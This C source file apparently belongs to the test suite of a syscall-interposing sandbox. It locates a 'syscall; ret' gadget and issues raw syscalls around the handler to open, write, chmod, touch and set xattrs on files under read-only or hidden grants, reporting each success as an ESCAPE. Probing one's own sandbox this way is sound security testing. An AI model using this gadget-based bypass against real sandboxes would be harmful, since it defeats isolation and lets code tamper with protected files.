/* Grants nested in a directory grant, reached around the handler through
 * the outer grant's copy: every directory fd of the process (the outer
 * grant's among them, handed out by the server when the program opened
 * argv[1]) with argv[2] (a path relative to it) opened through ld-preld's
 * `syscall; ret`. What it opens is read (the test looks for its secret in
 * the output) and changed: written, chmod'ed, touched, an xattr set, each
 * an ESCAPE where the namespace shows a read-only grant there. With a
 * third argument `hidden` the name must not be there at all (the
 * namespace shows another grant in its place): a stat of it (Landlock
 * has no right for stat) or an open is an ESCAPE.
 * argv: OUTER REL [hidden] */
#include "attack.h"
#include "gadget_scan.h"
#include <sys/stat.h>
#include <sys/xattr.h>

static unsigned long G;
static long g(long n, long a, long b, long c, long d) { return call_gadget(G, n, a, b, c, d); }

int main(int argc, char **argv) {
    if (argc < 3) { fprintf(stderr, "usage: nested_cover OUTER REL\n"); return 2; }
    const char *rel = argv[2];
    int hidden = argc > 3 && !strcmp(argv[3], "hidden");
    long outer = lc(open(argv[1], O_RDONLY | O_DIRECTORY));
    printf("libc open %s: %s\n", argv[1], outer >= 0 ? "opened" : strerror((int)-outer));
    find_gadgets();
    if (!ncand) { printf("no gadget: nothing to try\n"); return 0; }
    G = cands[0];
    int dirs = 0;
    char label[300];
    for (long fd = 0; fd < 65536; fd++) {
        struct stat st;
        if (g(SYS_fstat, fd, (long)&st, 0, 0) < 0 || !S_ISDIR(st.st_mode)) continue;
        dirs++;
        snprintf(label, sizeof label, "openat(dir fd %ld, %s)", fd, rel);
        struct stat hs;
        long st_r = g(SYS_newfstatat, fd, (long)rel, (long)&hs, AT_SYMLINK_NOFOLLOW);
        printf("fstatat(dir fd %ld, %s): %s (ino %lu, size %ld)%s\n", fd, rel, st_r == 0 ? "found" : strerror((int)-st_r),
               st_r == 0 ? (unsigned long)hs.st_ino : 0UL, st_r == 0 ? (long)hs.st_size : -1L,
               st_r == 0 && hidden ? " ESCAPE: a hidden host file stat'ed" : "");
        long w = g(SYS_openat, fd, (long)rel, O_WRONLY | O_APPEND, 0);
        if (w >= 0) {
            long n = g(SYS_write, w, (long)"PWNED", 5, 0);
            printf("%s O_WRONLY: opened, write %ld%s\n", label, n, n > 0 ? " ESCAPE: wrote a read-only grant's file" : "");
            g(SYS_close, w, 0, 0, 0);
        }
        long r = g(SYS_openat, fd, (long)rel, O_RDONLY, 0);
        if (r >= 0 && hidden) printf("%s: opened ESCAPE: a hidden host file opened\n", label);
        if (r < 0) {
            printf("%s: %s\n", label, strerror((int)-r));
            continue;
        }
        show(label, g(SYS_dup, r, 0, 0, 0));
        long c = g(SYS_fchmod, r, 0777, 0, 0);
        printf("%s fchmod: %s%s\n", label, c == 0 ? "changed" : strerror((int)-c), c == 0 ? " ESCAPE: a read-only grant's file chmod'ed" : "");
        struct timespec ts[2] = { { 1, 0 }, { 1, 0 } };
        c = g(SYS_utimensat, r, 0, (long)ts, 0);
        printf("%s futimens: %s%s\n", label, c == 0 ? "changed" : strerror((int)-c), c == 0 ? " ESCAPE: a read-only grant's file touched" : "");
        c = g(SYS_fsetxattr, r, (long)"user.preld", (long)"x", 1);
        printf("%s fsetxattr: %s%s\n", label, c == 0 ? "changed" : strerror((int)-c), c == 0 ? " ESCAPE: a read-only grant's file given an xattr" : "");
        g(SYS_close, r, 0, 0, 0);
        fflush(stdout);
    }
    printf("directory fds: %d\n", dirs);
    fflush(stdout);
    return 0;
}
